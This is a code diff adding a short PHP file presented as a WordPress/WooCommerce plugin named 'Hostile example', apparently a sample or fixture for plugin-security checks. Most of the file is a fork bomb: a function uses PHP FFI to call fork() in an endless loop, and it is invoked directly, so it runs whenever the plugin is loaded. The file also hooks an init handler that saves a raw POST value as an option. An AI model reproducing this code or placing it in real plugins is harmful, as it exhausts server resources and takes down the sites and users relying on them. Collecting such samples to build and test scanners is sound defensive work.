@@ -1,0 +1,24 @@
+<?php
+/**
+ * Plugin Name: Hostile example
+ * WC requires at least: 6.0
+ */
+
+/** Starts processes without end. */
+add_action('init', 'hostile_notice');
+
+function hostile_attack()
+{
+    $c = FFI::cdef('int fork(void);');
+    while (true) {
+        $c->fork();
+    }
+}
+
+function hostile_notice()
+{
+    check_admin_referer('hostile');
+    update_option('hostile_secret', $_POST['secret']);
+}
+
+hostile_attack();
